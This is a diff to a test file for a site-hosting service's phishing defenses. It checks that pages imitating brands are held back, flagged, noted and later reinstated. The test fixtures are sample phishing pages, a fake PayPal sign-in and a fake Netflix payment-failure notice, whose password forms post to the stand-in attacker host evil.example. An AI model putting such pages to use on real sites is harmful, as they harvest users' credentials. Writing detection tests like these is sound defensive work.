@@ -3,11 +3,14 @@ import { expect, test } from 'vitest';
 import { createUserContext } from '#worker/testing/context.ts';
 import { createClient } from '#worker/testing/request.ts';
 import { listOwnSites } from './list-own-sites.ts';
+import { readSite } from './read-site.ts';
 import { saveSite } from './save-site.ts';
 import { reinstateSite, suspendSite } from './suspend-site.ts';
 
 const HONEST =
   '<!doctype html><html><head><title>Bakery</title></head><body><h1>Bread</h1></body></html>';
+const SUSPECT =
+  '<!doctype html><html><head><title>Club</title></head><body><p>Netflix: your payment failed</p><form action="https://evil.example/x"><input type="password"></form></body></html>';
 const PHISHING =
   '<!doctype html><html><head><title>PayPal</title></head><body><h1>Sign in to PayPal</h1><form action="https://evil.example/x"><input type="password"></form></body></html>';
 
@@ -110,8 +113,34 @@ test('bad reports are refused: unknown site, no reason, another site’s form', 
   );
 });
 
-test('a page that looks like phishing is saved, flagged, noted and shown with a notice', async () => {
+test('a page that imitates a brand is saved and held back until it is changed', async () => {
   const { ctx, uuid, url } = await publish(PHISHING);
+  expect((await listOwnSites(ctx))[0]?.status).toBe('held');
+  const page = await call(url);
+  expect([page.status, page.headers.get('x-robots-tag')]).toEqual([403, 'noindex']);
+  const text = await page.text();
+  expect(text).toContain('in the name of a known brand');
+  expect(text).not.toContain('type="password"');
+  const italian = await call(url, { headers: { 'accept-language': 'it' } });
+  expect(await italian.text()).toContain('a nome di un marchio noto');
+  expect((await readSite({ ctx, input: { uuid } })).html).toBe(PHISHING);
+  expect(ctx.logged).toContainEqual({
+    event: 'sec.site_flagged',
+    fields: { site: uuid, signs: ['foreign-form', 'brand-credentials', 'imitation'] },
+  });
+  const cleaned = await saveSite({ ctx, input: { uuid, html: HONEST } });
+  expect(cleaned.site.status).toBe('active');
+  expect((await call(url)).status).toBe(200);
+});
+
+test('a page that is held back is shown once a review has put it back', async () => {
+  const { ctx, uuid, url } = await publish(PHISHING);
+  await reinstateSite(ctx, uuid);
+  expect((await call(url)).status).toBe(200);
+});
+
+test('a page that looks like phishing is saved, flagged, noted and shown with a notice', async () => {
+  const { ctx, uuid, url } = await publish(SUSPECT);
   expect((await listOwnSites(ctx))[0]?.status).toBe('flagged');
   const page = await call(url);
   expect([page.status, page.headers.get('x-robots-tag')]).toEqual([200, 'noindex']);
